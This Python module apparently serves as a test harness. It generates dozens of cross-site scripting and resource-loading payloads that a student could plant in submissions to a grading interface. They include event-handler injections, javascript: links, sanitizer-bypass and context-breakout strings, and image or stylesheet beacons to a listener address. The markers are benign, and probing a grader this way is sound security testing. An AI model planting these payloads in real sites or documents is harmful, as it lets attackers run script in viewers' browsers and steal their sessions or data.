"""What a student can plant so that it runs, loads or sends something in the browser of whoever looks at it.

In each, MARK is JavaScript that leaves every trace it can, and ADDRESS is a listener that tells who called.
"""

from dataclasses import dataclass

SCRIPT = (
    "window.name='live-NAME';document.title='live-NAME';console.log('live-NAME');"
    "new Image().src='ADDRESS';setTimeout(function(){alert('live-NAME')},0)"
)
# HTML that is live where it is not made harmless.
HTML = {
    "script": "<script>MARK</script>",
    "script-source": '<script src="ADDRESS"></script>',
    "script-module": '<script type="module">MARK</script>',
    "image-error": '<img src="x:" onerror="MARK">',
    "image-load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="MARK">',
    "image-address": '<img src="ADDRESS">',
    "image-set": '<img srcset="ADDRESS 1x">',
    "picture": '<picture><source srcset="ADDRESS"><img src="x:"></picture>',
    "svg-load": '<svg onload="MARK"></svg>',
    "svg-image": '<svg><image href="ADDRESS"/></svg>',
    "svg-use": '<svg><animate onbegin="MARK" attributeName="x" dur="1s"/></svg>',
    "frame-document": "<iframe srcdoc=\"<script>parent.document.title='live-NAME'</script>\"></iframe>",
    "frame-script": "<iframe src=\"javascript:parent.document.title='live-NAME'\"></iframe>",
    "frame-address": '<iframe src="ADDRESS"></iframe>',
    "object": '<object data="ADDRESS"></object>',
    "embed": '<embed src="ADDRESS">',
    "video": '<video><source onerror="MARK" src="x:"></video>',
    "video-poster": '<video poster="ADDRESS"></video>',
    "audio": '<audio src="x:" onerror="MARK"></audio>',
    "details": '<details open ontoggle="MARK">x</details>',
    "autofocus": '<input autofocus onfocus="MARK">',
    "input-image": '<input type="image" src="ADDRESS">',
    "style-import": "<style>@import 'ADDRESS';</style>",
    "style-everything": "<style>body { background: url(ADDRESS) }</style>",
    "style-attribute": '<div style="background: url(ADDRESS)">x</div>',
    "style-animation": '<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="MARK">x</b>',
    "stylesheet": '<link rel="stylesheet" href="ADDRESS">',
    "refresh": '<meta http-equiv="refresh" content="0;url=ADDRESS">',
    "link-script": '<a href="javascript:MARK">click</a>',
    "link-click": '<b onclick="MARK">click</b>',
    "link-hover": '<b onmouseover="MARK">hover</b>',
    "link-out": '<a href="ADDRESS">click</a>',
    "form": '<form action="ADDRESS"><button>click</button></form>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=MARK&gt;">'
    "</mglyph></table></mtext></math><img src='x:' onerror=\"MARK\">",
}
# Markdown that is live although it holds no HTML that a cleaner of HTML would see.
MARKDOWN = {
    "picture-address": "![picture](ADDRESS)",
    "picture-reference": "![picture][one]\n\n[one]: ADDRESS",
    "link-address": "[click](ADDRESS)",
}
# Breaking out of where the pages put text, and what only some renderers understand.
TRICKS = {
    "svg-script": "<svg><script>MARK</script></svg>",
    "end-text": "</textarea></title></pre></code></style></script><img src='x:' onerror=\"MARK\">",
    "end-attribute": "\"'><img src='x:' onerror=\"MARK\">",
    "end-comment": "--><img src='x:' onerror=\"MARK\"><!--",
    "end-data": "]]><img src='x:' onerror=\"MARK\">",
    "title-lines": "<abbr title=\"a\n\n<img src='x:' onerror='MARK'>\">x</abbr>",
    "entities": "&lt;img src='x:' onerror=\"MARK\"&gt;",
    "link-entities": "[click](&#106;avascript&colon;MARK)",
    "link-data": "[click](data:text/html,<script>MARK</script>)",
    "link-tab": '<a href="java\tscript:MARK">click</a>',
    "autolink": "<javascript:MARK>",
    "formula": "$\\href{javascript:MARK}{x}$ $\\unicode{<img src='x:' onerror=\"MARK\">}$",
    "environment": "\\begin{equation}<img src='x:' onerror=\"MARK\">\\end{equation}",
    "fence": '```"><img src=\'x:\' onerror="MARK">\ncode\n```',
    "mermaid": "```mermaid\ngraph TD; A[\"<img src='x:' onerror='MARK'>\"]; click A href \"javascript:MARK\"\n```",
    "template": "{{ MARK }} {% raw %} <template><script>MARK</script></template>",
    "noscript": "<noscript><p title=\"</noscript><img src='x:' onerror='MARK'>\">",
    "nested": "<scr<script>ipt>MARK</scr</script>ipt>",
    "configuration": "![c](/formgrader/?path=submitted/mallory/SET) [c](/formgrader/?path=submitted/mallory/SET)",
    "file": "![f](evil.html) [click](evil.html) <iframe src='evil.html'></iframe>",
    "attachment": "![a](attachment:evil.svg)",
    "base": "<base href='ADDRESS/'><img src='relative'>",
}


@dataclass(frozen=True)
class Payload:
    """One thing to plant: its name, which its trace holds, and its text."""

    name: str
    text: str

    @property
    def mark(self) -> str:
        """What its trace says."""
        return f"live-{self.name}"


def payloads(found: dict[str, str], listener: str) -> list[Payload]:
    """Return payloads that leave their traces at a listener's address."""
    made = []
    for name, text in found.items():
        address = f"{listener}/live-{name}"
        whole = text.replace("MARK", SCRIPT).replace("ADDRESS", address).replace("NAME", name)
        made.append(Payload(name, whole))
    return made
